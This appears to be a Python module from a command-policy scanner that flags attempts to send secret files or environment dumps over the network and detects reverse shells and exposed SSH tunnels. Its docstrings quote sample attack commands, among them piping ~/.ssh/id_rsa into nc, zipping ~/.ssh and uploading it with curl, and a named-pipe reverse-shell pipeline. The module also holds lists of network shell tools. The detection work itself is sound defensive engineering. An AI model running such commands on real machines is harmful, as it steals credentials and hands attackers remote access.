"""Credential and data exfiltration: secrets sent over the network, and reverse shells.

A network sender (curl, wget, httpie, scp/rsync/sftp to a remote, nc/socat/telnet, `aws s3 cp`,
`gsutil cp`, `rclone copy`, `gh gist create`, DNS lookups) is blocked when what it sends is a
secret (`policies.rules.secrets`): a secret file as an argument (`-d @.env`, `-T ~/.aws/…`,
`FILE:~/.ssh/id_rsa`, scp sources), on its standard input (`< ~/.kube/config`), piped in from an
earlier stage that reads one or dumps the environment (`cat ~/.ssh/id_rsa | nc …`,
`env | curl -d @- …`), inside a substitution in its arguments (`-d "$(cat .env)"`), or a file
an earlier command of the same script filled with one (`zip k.zip ~/.ssh && curl -F f=@k.zip`).
Tokens in headers (`-H "Authorization: Bearer $TOKEN"`) are how APIs are called and are fine.

Reverse shells: a shell wired to `/dev/tcp`, `nc -e`, `socat … exec:`, a pipeline joining a
network client and a shell, remote port forwards that expose SSH (`ssh -R …:22`, `ngrok tcp 22`).
"""

from __future__ import annotations

import re
from collections.abc import Iterator

from policies.rules.danger_files import resolve
from policies.rules.findings import Finding
from policies.rules.programs import is_shell, positionals, short_flags, words
from policies.rules.secrets import is_secret_path
from policies.rules.shell_model import Script, SimpleCommand
from policies.rules.writes import written_paths

NETWORK_SENDERS = words(
    "curl wget http https httpie xh xhs nc ncat netcat socat telnet scp sftp rsync aws gsutil "
    "rclone gh dig nslookup host drill ftp lftp openssl curlie ssh"
)
_NET_CLIENTS = words("nc ncat netcat telnet socat openssl cryptcat")
ENV_DUMPS = words("env printenv set export declare compgen")
_ARG_PREFIX = re.compile(r"^(?:[\w.-]+=)?@|^FILE:|^file:|^--[\w-]+=@?")
_DEV_TCP = re.compile(r"^/dev/(?:tcp|udp)/([^/]+)/\d+")
_LOCAL = re.compile(r"^(?:localhost|127\.\d+\.\d+\.\d+|::1|0\.0\.0\.0)$")
_EXPOSED_PORTS = frozenset({"22", "23", "3389", "5900", "2375"})
_SSH_KEYS = frozenset({"-i", "-F", "--identity-file"})
_USE_OPTIONS: dict[str, frozenset[str]] = {
    "curl": frozenset(
        [
            "-E",
            "--cert",
            "--key",
            "--cacert",
            "--capath",
            "--netrc-file",
            "-K",
            "--config",
            "--proxy-cert",
            "--proxy-key",
            "--proxy-cacert",
            "--crlfile",
            "--pinnedpubkey",
        ]
    ),
    "wget": frozenset(["--certificate", "--private-key", "--ca-certificate", "--config"]),
    "rsync": frozenset({"-e", "--rsh", "--password-file"}),
    "scp": _SSH_KEYS,
    "ssh": _SSH_KEYS,
    "sftp": _SSH_KEYS,
    "openssl": frozenset({"-key", "-cert", "-CAfile", "-pass"}),
}


def _sent_arguments(name: str, args: list[str]) -> list[str]:
    """Arguments without the values of options that *use* a key rather than send it
    (`scp -i key`, `curl --cert c.pem --key k.pem`)."""
    uses = _USE_OPTIONS.get(name, frozenset())
    out: list[str] = []
    skip = False
    for arg in args:
        if skip:
            skip = False
        elif arg in uses:
            skip = True
        elif arg.split("=", 1)[0] not in uses:
            out.append(arg)
    return out


def _secret_arguments(command: SimpleCommand, tainted: set[str]) -> list[str]:
    """The secret files `command` names as something to send (arguments or stdin)."""
    found: list[str] = []
    candidates = [_ARG_PREFIX.sub("", a) for a in _sent_arguments(command.name, command.args)]
    candidates += [r.target for r in command.redirects if r.op in ("<", "<>")]
    for candidate in candidates:
        if "://" in candidate:
            continue  # a URL names what is fetched, not a local file that is sent
        for part in candidate.split(","):
            path = resolve(command, part)
            if path and (is_secret_path(path) or path in tainted):
                found.append(path)
    return found


def is_sender(command: SimpleCommand) -> bool:
    """Whether the command sends data over the network (see the module docstring)."""
    name, args = command.name, command.args
    if name not in NETWORK_SENDERS:
        return False
    if name in ("aws", "gsutil", "rclone"):
        return (
            any(a.startswith(("s3://", "gs://")) or ":" in a for a in args[2:]) or name == "rclone"
        )
    if name == "gh":
        return args[:2] in (["gist", "create"], ["release", "upload"])
    if name in ("scp", "sftp", "rsync"):
        return any(re.match(r"^(?:[^/@:]+@)?[A-Za-z0-9._-]+:", a) for a in args)
    if name in ("nc", "ncat", "netcat"):
        return "-l" not in args and "z" not in short_flags(args)
    return name != "ssh"  # only what is piped into ssh is sent (see `check_exfiltration`)


def _reads_secret(command: SimpleCommand, tainted: set[str]) -> bool:
    if not command.argv and command.wrappers == ["env"]:
        return True  # a bare `env` prints the environment
    if command.name in ENV_DUMPS and not positionals(command.args):
        return command.name in ("env", "printenv", "set", "compgen") or "-p" in command.args
    paths = [resolve(command, p) for p in positionals(command.args)]
    paths += [resolve(command, r.target) for r in command.redirects if r.op == "<"]
    return any(p and (is_secret_path(p) or p in tainted) for p in paths)


def check_exfiltration(script: Script) -> Iterator[Finding]:
    """Secrets sent over the network (see the module docstring), across the whole script."""
    tainted: set[str] = set()
    for pipeline in script.walk_pipelines():
        source = False  # an earlier stage of this pipeline emits a secret
        for stage in pipeline.stages:
            commands = [stage] if isinstance(stage, SimpleCommand) else list(stage.body.walk())
            for command in commands:
                if is_sender(command) or (command.name == "ssh" and source):
                    reason = _exfil_reason(command, tainted, source)
                    if reason:
                        yield Finding("exfil-upload", reason, pipeline.line)
                        return
                if _reads_secret(command, tainted):
                    source = True
                    outputs = [*written_paths(command), *archive_outputs(command)]
                    tainted |= {resolve(command, p) for p in outputs}


def archive_outputs(command: SimpleCommand) -> list[str]:
    """The archive a `zip`/`tar`/`7z` command writes (`zip -r k.zip ~/.ssh` → `k.zip`)."""
    name, args = command.name, command.args
    if name in ("zip", "7z", "7za", "rar"):
        words_ = positionals(args, {"-P", "-x", "-i"})
        words_ = words_[1:] if name != "zip" and words_[:1] == ["a"] else words_
        return words_[:1]
    if name in ("tar", "bsdtar", "gtar"):
        for index, arg in enumerate(args[:-1]):
            cluster = arg[1:] if arg.startswith("-") and not arg.startswith("--") else arg
            if (index == 0 or arg.startswith("-")) and cluster.endswith("f"):
                return [args[index + 1]]
    return []


def _exfil_reason(command: SimpleCommand, tainted: set[str], piped: bool) -> str | None:
    name = command.name
    secrets = _secret_arguments(command, tainted)
    if secrets:
        return f"{name} sends {secrets[0]} over the network"
    if piped:
        return f"pipes secrets into {name}, which sends them over the network"
    for script in command.substitutions:
        if any(_reads_secret(inner, tainted) for inner in script.walk()):
            return f"{name} sends secrets read by a substitution over the network"
    return None


def check_reverse_shell(command: SimpleCommand) -> Iterator[Finding]:
    """A shell or `exec` wired to `/dev/tcp`, `nc -e`, `socat … exec:`, `ztcp`, remote
    forwards exposing SSH."""
    name, args, line = command.name, command.args, command.raw_line
    if any(_DEV_TCP.match(r.target) for r in command.redirects) and (
        is_shell(name) or "exec" in command.wrappers or name == "exec"
    ):
        yield Finding("reverse-shell", "connects a shell to a network socket", line)
        return
    lower = [a.lower() for a in args]
    if name in ("nc", "ncat", "netcat") and (
        {"e", "c"} & short_flags(args) or {"--exec", "--sh-exec", "--lua-exec"} & set(lower)
    ):
        yield Finding("reverse-shell", f"{name} runs a shell for a network peer", line)
    elif (
        name == "socat"
        and any(re.match(r"^(?:exec|system):", a) for a in lower)
        and any(re.match(r"^(?:tcp|tcp4|tcp6|udp|openssl|ssl)[-:]", a) for a in lower)
    ):
        yield Finding("reverse-shell", "socat connects a program to a network peer", line)
    elif name == "ztcp" and positionals(args) and not _LOCAL.match(positionals(args)[0]):
        yield Finding("reverse-shell", "opens a zsh TCP connection to a remote host", line)
    elif name in ("awk", "gawk") and any("/inet/tcp/" in a or "/inet/udp/" in a for a in args):
        yield Finding("reverse-shell", "awk opens a network socket", line)
    elif name in ("ssh", "autossh") and any(_exposes(v) for v in _values(args, "-R")):
        yield Finding("remote-tunnel", "exposes this machine's SSH to a remote host", line)
    elif (
        name == "ngrok"
        and args[:1] == ["tcp"]
        and any(a.split(":")[-1] in _EXPOSED_PORTS for a in args[1:])
    ):
        yield Finding("remote-tunnel", "exposes remote-access ports to the internet", line)


def _values(args: list[str], option: str) -> list[str]:
    out: list[str] = []
    for index, arg in enumerate(args):
        if arg == option and index + 1 < len(args):
            out.append(args[index + 1])
        elif arg.startswith(option) and len(arg) > len(option):
            out.append(arg[len(option) :])
        elif re.fullmatch(r"-[a-zA-Z]*" + option[1:], arg) and index + 1 < len(args):
            out.append(args[index + 1])
    return out


def _exposes(spec: str) -> bool:
    return spec.split(":")[-1] in _EXPOSED_PORTS


def check_shell_pipelines(script: Script) -> Iterator[Finding]:
    """`cat /tmp/f | sh -i 2>&1 | nc host 4444 > /tmp/f`, `telnet h p | bash | telnet h q`:
    a network client and a shell in one pipeline."""
    for pipeline in script.walk_pipelines():
        commands = [s for s in pipeline.stages if isinstance(s, SimpleCommand)]
        shells = [c for c in commands if is_shell(c.name) and not c.nested and len(c.args) <= 2]
        clients = [c for c in commands if c.name in _NET_CLIENTS and "-l" not in c.args]
        if shells and clients and any(_remote_client(c) for c in clients):
            yield Finding("reverse-shell", "pipes a shell through a network connection",
                          pipeline.line)  # fmt: skip


def _remote_client(command: SimpleCommand) -> bool:
    hosts = [a for a in positionals(command.args, {"-connect", "-p", "-w", "-q"})]
    hosts += [
        v
        for i, a in enumerate(command.args)
        if a == "-connect"
        for v in command.args[i + 1 : i + 2]
    ]
    return not hosts or not all(_LOCAL.match(h.split(":")[0]) for h in hosts)
